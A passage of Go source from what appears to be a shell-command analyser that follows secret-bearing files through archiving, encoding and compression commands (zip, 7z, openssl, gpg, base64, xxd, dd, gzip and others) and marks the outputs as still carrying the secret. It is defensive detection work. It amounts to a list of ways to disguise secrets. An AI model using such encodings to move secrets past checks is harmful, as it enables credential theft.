		if sec := secretIn(files); sec != nil && archive.Text != "" {
			carry(archive, sec)
		}
	case "zip", "7z", "7za":
		var ops []shell.Word
		for _, x := range args {
			if !strings.HasPrefix(x.Text, "-") {
				ops = append(ops, x)
			}
		}
		if (inv.Name == "7z" || inv.Name == "7za") && len(ops) > 0 {
			ops = ops[1:] // the command letter: a, u
		}
		if len(ops) >= 2 {
			if sec := secretIn(ops[1:]); sec != nil {
				carry(ops[0], sec)
			}
		}
	case "openssl", "gpg", "age", "base64", "base32", "xxd", "od", "hexdump", "dd", "uuencode":
		// An encoder that writes its output to a file it is told:
		// openssl enc -in f -out g, gpg -o g f, base64 -i f -o g, xxd f g,
		// dd if=f of=g.
		var out shell.Word
		var ins []shell.Word
		for i := 0; i < len(args); i++ {
			x := args[i]
			switch {
			case (x.Text == "-out" || x.Text == "-o" || x.Text == "--output") && i+1 < len(args):
				out = args[i+1]
				i++
			case strings.HasPrefix(x.Text, "--output="):
				out = shell.Word{Text: x.Text[len("--output="):]}
			case strings.HasPrefix(x.Text, "of="):
				out = shell.Word{Text: x.Text[len("of="):]}
			case strings.HasPrefix(x.Text, "if="):
				ins = append(ins, shell.Word{Text: x.Text[len("if="):]})
			case !strings.HasPrefix(x.Text, "-"):
				ins = append(ins, x)
			}
		}
		if out.Text == "" && inv.Name == "xxd" && len(ins) == 2 {
			out, ins = ins[1], ins[:1]
		}
		if out.Text == "" && inv.Name == "gpg" && len(ins) > 0 {
			out = shell.Word{Text: ins[len(ins)-1].Text + ".gpg"}
		}
		if sec := secretIn(ins); sec != nil && out.Text != "" {
			carry(out, sec)
		}
	default:
		ext := map[string]string{"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "lzma": ".lzma", "zstd": ".zst", "lz4": ".lz4", "compress": ".Z"}[inv.Name]
		for _, x := range args {
			if strings.HasPrefix(x.Text, "-") {
				if x.Text == "-d" || x.Text == "--decompress" || x.Text == "-c" || x.Text == "--stdout" {
					return // the output goes to stdout: the pipeline carries it
				}
				continue
			}
			if sec := a.fileSecret(x, inv.State); sec != nil && x.Static() {
				carry(shell.Word{Text: x.Text + ext}, sec)
			}
		}
	}
}
